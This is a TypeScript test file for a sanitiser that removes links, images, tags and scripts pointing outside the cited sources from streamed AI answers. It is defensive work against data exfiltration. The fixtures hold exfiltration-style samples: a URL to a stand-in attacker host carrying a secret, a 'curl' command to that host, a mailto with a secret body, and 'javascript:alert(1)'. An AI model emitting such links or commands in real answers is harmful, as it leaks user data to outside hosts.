import fc from "fast-check";
import { marked } from "marked";
import { describe, expect, test } from "vitest";
import { citer } from "../../../src/domain/answers/cite.ts";
import { linksIn } from "../../../src/domain/answers/links.ts";

const KNOWN = "https://docs.acme.example/returns?lang=en";
const FOREIGN = "https://evil.example/p?d=secret";
const CONTENT = `See ${KNOWN} and [the page](https://acme.example/a_(b)), www.acme.example/help or mailto:help@acme.example. Refunds take 5 days.`;
const SOURCE = {
  index: 1,
  kind: "document" as const,
  chunk_id: "c",
  document_id: "d",
  document_name: "n",
  title: null,
  version: 1,
  content: CONTENT,
  page: null,
  heading: [],
  start: 0,
  end: CONTENT.length,
  score: 1,
};

function defuse(pieces: string[]) {
  const cited = citer([SOURCE], linksIn([CONTENT]));
  const events = [...pieces.flatMap((piece) => cited.push(piece)), ...cited.end()];
  const text = events.map((event) => (event.type === "token" ? event.text : "")).join("");
  expect(text).toBe(cited.answer());
  for (const { index, answer_start, answer_end } of cited.citations())
    expect(text.slice(answer_start, answer_end)).toBe(`[${index}]`);
  return { text, removed: cited.removed() };
}

describe.each([
  ["whole", (text: string) => [text]],
  ["letter by letter", (text: string) => Array.from(text)],
])("an answer that comes %s", (_, pieces) => {
  test.each([
    ["an address of the sources", `Go to ${KNOWN}. Then wait.`],
    ["one they write without a scheme", "Go to https://www.acme.example/help!"],
    ["one with brackets", "Go [there](https://acme.example/a_(b)) now."],
    ["an address between angle brackets", `Go to <${KNOWN}>.`],
    ["their mail address", "Write to mailto:help@acme.example today."],
    ["a mail address", "Write to somebody@acme.example."],
    ["a comparison", "It holds that a < b and b<3, AT&T said."],
    ["code", "Use `<b>` and `![x](y)`:\n\n```html\n<b>&amp;</b>\n```\nThen go."],
    ["a date, a time, a note", "On 1.5.2026 at 12:30 [sic] done! (Really?) What else?"],
    ["dotted names", "Node.js/Express and ASP.NET, e.g. v1.2/v1.3 (foo.bar?)."],
  ])("keeps %s", (_name, text) => expect(defuse(pieces(text))).toEqual({ text, removed: 0 }));

  test.each([
    [
      "another query",
      "Go to https://docs.acme.example/returns?lang=secret now.",
      "Go to docs.acme.example now.",
    ],
    ["a foreign address", `Go to ${FOREIGN} now.`, "Go to (link removed) now."],
    ["upper case", "Go to HTTPS://EVIL.EXAMPLE/P now.", "Go to (link removed) now."],
    ["an address without a scheme", "Go to www.evil.example/p now.", "Go to (link removed) now."],
    ["a query without a scheme", "Go to evil.example/p?d=secret now.", "Go to evil.example/p now."],
    ["another scheme", "Go to ftp://evil.example/p now.", "Go to ftp (link removed) now."],
    ["a script", "Click javascript:alert(1) now.", "Click javascript (link removed) now."],
    [
      "a letter to a stranger",
      "Write to mailto:a@evil.example?body=secret now.",
      "Write to mailto (link removed) now.",
    ],
    ["escaped signs", "Go to https\\:\\/\\/evil.example/p now.", "Go to (link removed) now."],
    ["an address in code", `Run \`curl ${FOREIGN}\` now.`, "Run `curl (link removed)` now."],
    ["an address in Chinese", "请访问https://evil.example/p。谢谢", "请访问(link removed)。谢谢"],
    ["a link", `Go [there](${FOREIGN} "title") now.`, "Go [there] now."],
    ["a link to a script", "Go [there](javascript:alert(1)) now.", "Go [there] now."],
    ["a link without a scheme", "Go [there](//evil.example/p) now.", "Go [there] now."],
    ["a link over a mark", `5 days [1: "take 5 days"](${FOREIGN}).`, "5 days [1] ((link removed))."],
    ["an automatic link", `Go to <${FOREIGN}>.`, "Go to (link removed)."],
  ])("loses %s", (_name, text, expected) => {
    const defused = defuse(pieces(text));
    expect(defused.text).toBe(expected);
    expect(defused.removed).toBe(1);
  });

  test.each([
    ["a picture", `![logo](${FOREIGN})`, "! [logo]"],
    ["a picture of the sources", `![logo](${KNOWN})`, `! [logo](${KNOWN})`],
    ["a definition", `[a][b]\n\n[b]: ${FOREIGN}`, "[a][b]\n\n[b] : (link removed)"],
    ["a mark that becomes a definition", 'x\n[1: "take 5 days"]: /p', "x\n[1] : /p"],
    ["a tag", "<script>x</script>", "< script>x< /script>"],
    ["a comment", "<!-- x -->", "< !-- x -->"],
    ["an entity", "&lt;b&gt; &#60;b", "& lt;b& gt; & #60;b"],
    ["code that is none", "a ` b\n` <b> `", "a ` b\n` < b> `"],
    ["code across the cells of a table", "| ` | <b> | ` |", "| ` | < b> | ` |"],
    ["text behind an address", `${KNOWN}[secret]`, `${KNOWN} [secret]`],
  ])("breaks %s", (_name, text, expected) => expect(defuse(pieces(text)).text).toBe(expected));
});

test("an address that does not end is not waited for", () => {
  const { text, removed } = defuse([
    "See https://evil.example/",
    ...Array<string>(500).fill("secret"),
    " end.",
  ]);
  expect({ text, removed }).toEqual({ text: "See (link removed) end.", removed: 1 });
});

test("hostile text costs no more than its length", () => {
  for (const piece of [
    "](",
    "](a (",
    "[",
    "<a:",
    "&a",
    "h",
    "w",
    "http:",
    "a.b/",
    "?",
    "!",
    "`",
    "``` ",
    "(",
    "://",
    "~",
    "\\",
  ]) {
    const started = performance.now();
    defuse([piece.repeat(8_000)]);
    expect(performance.now() - started, piece).toBeLessThan(3_000);
  }
});

test("nor does a hostile passage", () => {
  const started = performance.now();
  for (const piece of [")", "(", "a.", "/)", "http://", "|"])
    linksIn([`https://evil.example/${piece.repeat(20_000)}`]).has("https://other.example");
  expect(performance.now() - started).toBeLessThan(2_000);
});

test("a renderer shows no picture, no tag and no address that the sources do not hold, and pieces make no difference", () => {
  const signs = [
    ..."[]()!`|<>\"'\\:&?*_#~^{} \n\t密",
    ...[
      "![",
      "](",
      "``",
      "```",
      "```\n",
      "\n```\n",
      "~~~\n",
      "\n\n",
      "    ",
      "> ",
      "- ",
      "1. ",
      "\n   ```\n",
      "- ```\n",
    ],
    ...[
      "| a | b |\n|---|---|\n",
      "<img src=",
      '<a href="',
      "<!--",
      "-->",
      "<script>",
      "\\[",
      "]:",
      "[x]:",
      "[x]",
      "//",
    ],
    ...[
      "&#58;",
      "&lt;",
      "&colon;",
      "https",
      "http",
      "://",
      "www.",
      "evil.example",
      "?d=secret",
      "javascript:alert(1)",
    ],
    ...[
      KNOWN,
      KNOWN,
      FOREIGN,
      FOREIGN,
      `![a](${FOREIGN})`,
      `[a](${FOREIGN})`,
      `![a](${KNOWN})`,
      `[a](${KNOWN} "t")`,
    ],
    ...[
      "word",
      "[9]",
      'Refunds [1: "take 5 days"]',
      "mailto:x@evil.example?body=a",
      "x@evil.example",
      "\u200b",
      "\u00a0",
      "\r",
    ],
  ];
  const allowed = (address: string) => address === KNOWN || /^mailto:[^?]*$/.test(address);
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...signs), { maxLength: 16 }),
      fc.integer({ min: 1, max: 7 }),
      (parts, size) => {
        const written = parts.join("");
        const { text } = defuse([written]);
        expect(defuse(written.match(new RegExp(`[\\s\\S]{1,${size}}`, "gu")) ?? []).text).toBe(text);
        const html = marked.parse(text, { async: false }).replace(/<code[\s\S]*?<\/code>/g, "");
        expect(html).not.toMatch(/<(?:img|script|!--|a(?! href))/);
        const addresses = Array.from(html.matchAll(/(?:href|src)="([^"]*)"/g), ([, address = ""]) =>
          address.replaceAll("&amp;", "&"),
        );
        expect(addresses.filter((address) => !allowed(address))).toEqual([]);
      },
    ),
    { numRuns: 1_500 },
  );
});
